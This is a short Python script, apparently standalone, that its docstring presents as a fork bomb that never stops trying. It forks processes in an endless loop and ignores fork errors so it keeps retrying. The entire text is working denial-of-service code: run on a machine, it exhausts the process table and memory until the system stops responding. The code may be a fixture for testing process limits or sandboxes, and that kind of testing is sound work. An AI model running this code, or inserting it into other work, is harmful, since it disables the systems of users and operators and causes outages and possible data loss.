"""A fork bomb that never stops trying."""

import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()
